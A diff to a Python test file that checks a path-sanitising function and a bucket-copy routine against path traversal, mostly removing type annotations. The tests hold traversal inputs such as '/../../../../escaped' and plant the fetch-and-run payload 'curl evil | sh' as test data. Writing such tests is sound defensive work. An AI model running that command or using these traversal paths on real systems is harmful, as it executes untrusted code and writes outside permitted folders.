@@ -11,11 +11,11 @@ from must.base import storage
 from must.base.names import safe_relative_path
 from must_components.train_job.launch import copy_bundle
 from tests.deploy.promote.bundles import make_bundle
-from tests.stores import Server, plant
+from tests.stores import plant
 
 
 @given(st.one_of(st.text(), st.lists(st.sampled_from(["", ".", "..", "a", "\0"]), max_size=5).map("/".join)))
-def test_what_is_let_through_stays_below_its_folder(name: str) -> None:
+def test_what_is_let_through_stays_below_its_folder(name):
     try:
         checked = safe_relative_path(name, "gs://b")
     except ValueError as error:
@@ -27,9 +27,7 @@ def test_what_is_let_through_stays_below_its_folder(name: str) -> None:
 
 
 @pytest.mark.parametrize("evil", ["/../../../../escaped", "/a/../../../../escaped", "//{folder}/escaped"])
-def test_copying_a_folder_of_a_bucket_writes_nothing_elsewhere(
-    bucket_server: Server, tmp_path: Path, capsys: pytest.CaptureFixture[str], evil: str
-) -> None:
+def test_copying_a_folder_of_a_bucket_writes_nothing_elsewhere(bucket_server, tmp_path, capsys, evil):
     for name, file in (("onnx", "model.onnx"), ("bundle", "model.json")):
         storage.write_bytes(f"{bucket_server.uri}/{name}/{file}", b"{}")
         plant(f"{bucket_server.uri}/{name}{evil.format(folder=tmp_path)}", b"curl evil | sh\n")
